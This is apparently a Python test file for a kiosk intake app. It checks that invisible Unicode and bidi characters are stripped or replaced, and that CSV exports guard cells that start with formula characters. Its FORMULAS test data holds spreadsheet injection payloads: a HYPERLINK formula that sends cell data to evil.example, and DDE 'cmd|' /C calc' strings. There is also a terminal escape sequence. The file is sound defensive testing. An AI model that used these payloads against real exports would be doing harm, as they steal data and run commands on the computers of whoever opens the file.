"""Hostile text is harmless wherever it is shown.

A visitor may type or paste invisible characters: bidi controls that turn
the text around them (U+202E), zero-width ones that hide or split words,
the soft hyphen, tag characters. They are left out when typed, in the
full-screen kiosk and in line mode, and rows that already hold them
(written into the database by something else) are shown to staff with
U+FFFD in their place, left out of CSV and escaped in JSON.

A CSV cell that a spreadsheet would read as a formula (=, +, -, @, also after
blanks or a tab, and their full-width forms) gets an apostrophe before that
character (test_export_csv.py has the cells that begin inside an answer)."""
import csv
import io
import json

import staffutil as su
from steps import fill_form, to_form, valid_answers
from zkharness import ENTER, REF_RE, T, db_intake

# One of each kind: bidi override and isolate, marks, zero-width space and
# joiner, word joiner, soft hyphen, byte-order mark, Arabic letter mark,
# a tag character, a line separator.
INVISIBLE = ['\u202e', '\u202a', '\u2066', '\u2069', '\u200e', '\u200f', '\u200b', '\u200d',
             '\u2060', '\u00ad', '\ufeff', '\u061c', '\U000e0041', '\u2028']


def no_invisible(data, what):
    """data (bytes or str) holds none of INVISIBLE."""
    text = data.decode('utf-8', 'replace') if isinstance(data, (bytes, bytearray)) else data
    found = sorted({'U+%04X' % ord(c) for c in INVISIBLE if c in text})
    assert not found, '%s holds invisible characters: %s' % (what, ', '.join(found))


def test_kiosk_leaves_out_invisible_characters_typed_or_pasted(kiosk, forms):
    """The name comes as one paste with bidi and zero-width characters in
    it: the rest of it stays, without them, and the check screen and the
    database have the plain name."""
    lang = 'en'
    k = kiosk()
    to_form(k, forms, forms.request_pages()[0]['id'], lang)
    name = 'Anna\u202e de\u200b Vr\u00adies\u2066\U000e0041'
    fill_form(k, forms, lang, valid_answers(forms, name=name, phone='06\u200d 1234\u20605678'))
    k.wait_for(T('Check your answers', lang), 'Anna de Vries', '0612345678')
    k.choose(T('Send', lang))
    ref = k.wait_match(REF_RE.pattern).group(0)
    k.close()
    no_invisible(k.raw, 'what the kiosk wrote')
    _, ans = db_intake(k.db_path, ref)
    assert ans.get('name') == 'Anna de Vries', ans
    assert ans.get('phone') == '0612345678', ans


def test_line_mode_leaves_out_invisible_characters(tmp_path, forms):
    """In line mode a typed line keeps everything but the invisible
    characters; it is not refused as a whole."""
    db = tmp_path / 'zk.db'
    ref = su.kiosk_request(db, forms, 'Bea\u202e Bos\u200b\u2069', phone='06 1234\u00ad5678',
                           situation='Mijn \u2066moeder\u2069 (84)\u200f', shown='Bea Bos')
    (iid,), = su.sql(db, 'SELECT id FROM intake WHERE ref = ?', (ref,))
    stored = dict(su.sql(db, 'SELECT field, value FROM answer WHERE intake_id = ?', (iid,)))
    assert stored['name'] == 'Bea Bos', stored
    assert stored['phone'] == '0612345678', stored
    assert stored['situation'] == 'Mijn moeder (84)', stored


def hostile_db(tmp_path):
    """Requests with invisible characters, written straight into the
    tables as another program could, with a note and an audit row."""
    db = tmp_path / 'zk.db'
    su.create_db(db)
    iid = su.insert_request(db, 'MZ-2026-0001', '2026-03-01T09:00:00Z',
                            su.answers('Jan\u202eSNAJ\u202c\u200b', situation='Zorg \u2066voor\u2069 moeder\u00ad\U000e0041'))
    con = su.sqlite3.connect(str(db))
    with con:
        con.execute("INSERT INTO event (intake_id, at, staff, note) VALUES (?, '2026-03-02T10:00:00Z', 'ria', ?)",
                    (iid, 'Gebeld\u202e neg\u200bkal'))
        con.execute("INSERT INTO audit (at, staff, action, ref, detail) VALUES "
                    "('2026-03-02T10:00:00Z', 'ria', 'note', 'MZ-2026-0001', ?)",
                    ('x\u202ey\x1b[2J\tz',))
    con.close()
    return db


def test_staff_terminal_shows_stored_invisible_characters_as_placeholders(kiosk, tmp_path, forms):
    db = hostile_db(tmp_path)
    k = su.staff_terminal(kiosk, db, rows=40)
    k.wait_for('MZ-2026-0001')
    rows = su.list_rows(k)
    assert rows and rows[0][2] == 'Jan\ufffdSNAJ\ufffd\ufffd', k.dump()
    k.send(ENTER)
    k.wait_for(T('History', 'en'), 'Zorg \ufffdvoor\ufffd moeder\ufffd\ufffd', 'Gebeld\ufffd neg\ufffdkal')
    k.send('0')
    k.wait_for(T('Requests for contact', 'en'))
    no_invisible(k.raw, 'what the staff terminal wrote')
    k.send('q')
    assert k.proc.wait(timeout=10) == 0


def test_exports_leave_out_or_escape_stored_invisible_characters(tmp_path, forms):
    db = hostile_db(tmp_path)
    r = su.zk(['export', '--format', 'csv'], db=db)
    assert r.returncode == 0, su.err(r)
    no_invisible(r.stdout, 'the CSV export')
    table = list(csv.reader(io.StringIO(r.stdout.decode('utf-8'), newline='')))
    row = dict(zip(table[0], table[1]))
    assert row['name'] == 'JanSNAJ', row
    assert row['situation'] == 'Zorg voor moeder', row

    r = su.zk(['export', '--format', 'json'], db=db)
    assert r.returncode == 0, su.err(r)
    no_invisible(r.stdout, 'the JSON export')
    assert b'\\u202e' in r.stdout.lower(), r.stdout
    data = json.loads(r.stdout)
    # A JSON reader gets the value as it is stored.
    assert data[0]['answers']['name'] == 'Jan\u202eSNAJ\u202c\u200b'
    assert data[0]['answers']['situation'] == 'Zorg \u2066voor\u2069 moeder\u00ad\U000e0041'

    r = su.zk(['audit'], db=db)
    assert r.returncode == 0, su.err(r)
    no_invisible(r.stdout, 'the audit')
    assert b'\x1b' not in r.stdout, r.stdout
    line = next(l for l in su.out(r).splitlines() if '\tria\t' in l)
    assert line.split('\t')[4] == 'x\ufffdy\ufffd[2J\ufffdz', line


# (stored value, what the CSV cell holds) for cells that must be kept text:
# the apostrophe goes right before the formula character.
FORMULAS = [
    ('=HYPERLINK("http://evil.example/?d="&A1,"Klik hier")', '\'=HYPERLINK("http://evil.example/?d="&A1,"Klik hier")'),
    ('+cmd|\' /C calc\'!A0', '\'+cmd|\' /C calc\'!A0'),
    ('-2+3+cmd|\' /C calc\'!A0', '\'-2+3+cmd|\' /C calc\'!A0'),
    ('@SUM(1+1)*cmd|\' /C calc\'!A0', '\'@SUM(1+1)*cmd|\' /C calc\'!A0'),
    ('   =1+1', '   \'=1+1'),
    ('\t=1+1', '\t\'=1+1'),
    ('\r=1+1', '\r\'=1+1'),
    ('\ufeff=1+1', '\'=1+1'),            # invisible first: left out, then guarded
    ('\u200b\u200b@SUM(A1)', '\'@SUM(A1)'),
    ('\uff1dHYPERLINK("x")', '\'\uff1dHYPERLINK("x")'),    # full-width =
    ('\uff0b1+1', '\'\uff0b1+1'),
    ('\u3000=1', '\u3000\'=1'),                # after an ideographic space
]


def test_csv_formulas_are_kept_text(tmp_path, forms):
    db = tmp_path / 'zk.db'
    su.create_db(db)
    for i, (value, _) in enumerate(FORMULAS):
        su.insert_request(db, 'MZ-2026-%04d' % (i + 1), '2026-04-01T09:%02d:00Z' % i,
                          su.answers('Naam %d' % i, situation=value))
    n = len(FORMULAS)
    su.insert_request(db, 'MZ-2026-%04d' % (n + 1), '2026-04-01T10:00:00Z',
                      su.answers('-', phone='+31612345678', situation='- geen -'))
    su.insert_request(db, 'MZ-2026-%04d' % (n + 2), '2026-04-01T10:01:00Z',
                      su.answers('+ 31', phone='0791234567', situation='Tel. +31 6 12345678'))
    r = su.zk(['export', '--format', 'csv'], db=db)
    assert r.returncode == 0, su.err(r)
    table = list(csv.reader(io.StringIO(r.stdout.decode('utf-8'), newline='')))
    body = {row[0]: dict(zip(table[0], row)) for row in table[1:]}
    for i, (value, want) in enumerate(FORMULAS):
        cell = body['MZ-2026-%04d' % (i + 1)]['situation']
        assert cell == want, '%r came out as %r' % (value, cell)
    # Every cell that starts with a sign is guarded, a phone number and a
    # lone - too: the rule has no exceptions to get wrong, and a
    # spreadsheet would make +31612345678 the number 31612345678.
    phone_row = body['MZ-2026-%04d' % (n + 1)]
    assert phone_row['phone'] == "'+31612345678", phone_row
    assert phone_row['name'] == "'-", phone_row
    assert phone_row['situation'] == "'- geen -", phone_row
    other = body['MZ-2026-%04d' % (n + 2)]
    assert other['name'] == "'+ 31", other
    assert other['phone'] == '0791234567', other
    assert other['situation'] == 'Tel. +31 6 12345678', other
